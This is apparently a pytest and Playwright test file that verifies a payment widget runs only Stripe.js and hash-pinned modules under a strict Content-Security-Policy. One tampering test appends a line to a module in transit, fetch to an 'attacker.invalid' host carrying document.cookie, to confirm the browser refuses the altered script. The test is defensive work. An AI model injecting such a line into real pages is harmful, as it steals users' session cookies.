"""The payment pages' scripts, as PCI DSS 4.0.1 (6.4.3, 11.6.1) asks of a page that hosts a card form: each one
authorised and its integrity assured. See SECURITY.md.

The patient's widget and a pay-later link's page run exactly: Stripe.js, from the origin the settings name (the
sandbox's stand-in here, js.stripe.com in production), and our own modules, each checked by the browser against a
hash: the entry's ``integrity`` attribute, the modules it imports through the import map's ``integrity``. The
Content-Security-Policy allows nothing else: no inline script but that import map (by its own hash), no eval, no
plugins, no other origin. Checked on the served page, in Chromium with the card form open (every script the page
actually loaded), and by tampering with one module on the wire, which the browser must refuse.
"""

from __future__ import annotations

import base64
import hashlib
import json
from html.parser import HTMLParser
from typing import Any

import pytest
from playwright.async_api import Page, Route, expect

from addon.settings import origin_of
from tests.browser_support import script_errors
from tests.conftest import launch_token
from tests.support.payflow import PayStack

pytestmark = pytest.mark.browser

PAGES = ("/widget/patient", "/pay/no-such-link")


class ScriptTags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.scripts: list[dict[str, Any]] = []
        self._open: dict[str, Any] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "script":
            self._open = {**dict(attrs), "text": ""}
            self.scripts.append(self._open)

    def handle_data(self, data: str) -> None:
        if self._open is not None:
            self._open["text"] += data

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._open = None


def sri(content: bytes) -> str:
    return "sha384-" + base64.b64encode(hashlib.sha384(content).digest()).decode()


def csp_hash(text: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"


def directives(policy: str) -> dict[str, list[str]]:
    parsed: dict[str, list[str]] = {}
    for part in policy.split(";"):
        name, *values = part.split()
        parsed[name] = values
    return parsed


async def served(stack: PayStack, url: str) -> bytes:
    async with stack.http.get(stack.url + url) as answer:
        assert answer.status == 200, url
        return await answer.read()


async def open_page(stack: PayStack, path: str) -> tuple[str, str]:
    if path == "/widget/patient":
        path += "?launch=" + launch_token(role="patient", sub="patient-1", name=None)
    async with stack.http.get(stack.url + path) as answer:
        assert answer.status in (200, 404), path
        return answer.headers["Content-Security-Policy"], await answer.text()


@pytest.mark.parametrize("path", PAGES)
async def test_the_page_runs_only_stripe_js_and_our_hashed_modules(connected: PayStack, path: str) -> None:
    policy, html = await open_page(connected, path)
    parser = ScriptTags()
    parser.feed(html)
    stripe_origin = origin_of(connected.settings.stripe_js_url)

    modules = [s for s in parser.scripts if s.get("type") == "module"]
    maps = [s for s in parser.scripts if s.get("type") == "importmap"]
    data = [s for s in parser.scripts if s.get("type") == "application/json"]
    assert len(modules) == 1 and len(maps) == 1 and len(modules) + len(maps) + len(data) == len(parser.scripts)
    assert all("src" not in s for s in data + maps)  # inert JSON blocks and the import map: never fetched

    (entry,) = modules
    assert entry["src"].startswith("/widget/static/")
    assert entry["integrity"] == sri(await served(connected, entry["src"]))
    pinned = json.loads(maps[0]["text"])["integrity"]
    assert len(pinned) >= 5  # the entry imports a tree of modules; each is pinned
    for url, digest in pinned.items():
        assert url.startswith(("/static/", "/widget/static/")) and url.endswith(".js")
        assert digest == sri(await served(connected, url)), url

    csp = directives(policy)
    assert sorted(csp["script-src"]) == sorted(["'self'", stripe_origin, csp_hash(maps[0]["text"])])
    assert csp["default-src"] == ["'self'"] and csp["object-src"] == ["'none'"] and csp["base-uri"] == ["'none'"]
    assert csp["form-action"] == ["'none'"] and csp["frame-src"] == [stripe_origin]
    assert not any(v in ("'unsafe-inline'", "'unsafe-eval'", "*", "data:") for v in csp["script-src"])


async def test_with_the_card_form_open_every_script_loaded_was_allowed_and_checked(
    connected: PayStack, page: Page, page_errors: list[str]
) -> None:
    """In Chromium, Stripe.js loaded and the Payment Element mounted: every script element is Stripe.js or ours
    with a matching integrity; every one of our scripts the browser fetched is pinned; no policy was violated."""
    stack = connected
    await page.add_init_script(
        "window.__violations = [];"
        "document.addEventListener('securitypolicyviolation',"
        " e => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));"
    )
    doctor = await stack.socket(await stack.clinician())
    await page.goto(f"{stack.url}/widget/patient?launch={launch_token(role='patient', sub='patient-1', name=None)}")
    await stack.request_payment(doctor, amount="80.00", description="Consultation")
    await page.get_by_test_id("pay-now").click()
    await page.get_by_test_id("receipt-email").fill("pat@example.com")
    await expect(page.locator('iframe[title="Secure payment input frame"]')).to_be_visible()

    found = await page.evaluate(
        """() => ({
            scripts: [...document.scripts].map(s => ({src: s.src, type: s.type, integrity: s.integrity})),
            fetched: performance.getEntriesByType('resource').map(r => r.name).filter(n => /\\.m?js(\\?|$)/.test(n)),
            importmap: document.querySelector('script[type=importmap]').textContent,
            violations: window.__violations,
        })"""
    )
    stripe_js = stack.settings.stripe_js_url
    pinned = json.loads(found["importmap"])["integrity"]
    ours = [s for s in found["scripts"] if s["src"].startswith(stack.url)]
    theirs = [s for s in found["scripts"] if s["src"] and not s["src"].startswith(stack.url)]
    assert [s["src"] for s in theirs] == [stripe_js]  # Stripe.js, loaded once, from the configured address
    assert len(ours) == 1 and ours[0]["integrity"] == sri(await served(stack, ours[0]["src"][len(stack.url) :]))
    own_fetches = {name[len(stack.url) :] for name in found["fetched"] if name.startswith(stack.url)}
    assert own_fetches, found["fetched"]
    assert own_fetches <= {ours[0]["src"][len(stack.url) :], *pinned}, own_fetches - set(pinned)
    assert found["violations"] == []
    assert script_errors(page_errors) == []


async def test_a_module_changed_on_the_wire_is_refused_by_the_browser(
    connected: PayStack, page: Page, page_errors: list[str]
) -> None:
    """The integrity is live, not decoration: one imported module altered in transit, and Chromium refuses to run
    it (so the page, which needs it, never starts)."""

    async def tampered(route: Route) -> None:
        response = await route.fetch()
        body = await response.text()
        await route.fulfill(response=response, body=body + "\nfetch('https://attacker.invalid/?' + document.cookie);\n")

    await page.route("**/widget/static/patient/words.js", tampered)
    await page.goto(f"{connected.url}/widget/patient?launch={launch_token(role='patient', sub='patient-1', name=None)}")
    for _ in range(50):
        if any("integrity" in error.lower() for error in page_errors):
            break
        await page.wait_for_timeout(100)
    assert any("integrity" in error.lower() for error in page_errors), page_errors
    # Nothing of ours ran: the page never got past its first words (untouched, it says "Nothing to pay right now").
    await page.wait_for_timeout(1000)
    await expect(page.locator("#pw-empty")).to_have_text("Connecting…")


async def test_static_files_are_revalidated_so_a_deploy_never_meets_a_stale_copy(connected: PayStack) -> None:
    """The modules' URLs stay the same from one deploy to the next while the page pins their hashes: a browser that
    reused its old copy without asking would have it refused, and the payment page would not start."""
    _, html = await open_page(connected, "/widget/patient")
    parser = ScriptTags()
    parser.feed(html)
    (entry,) = [s for s in parser.scripts if s.get("type") == "module"]
    for url in (entry["src"], "/static/callpay.css"):
        first = await connected.client.get(url)
        assert first.status == 200 and first.headers["Cache-Control"] == "no-cache", url
        again = await connected.client.get(url, headers={"If-None-Match": first.headers["ETag"]})
        assert again.status == 304, url  # asking again costs a 304 while the file is unchanged
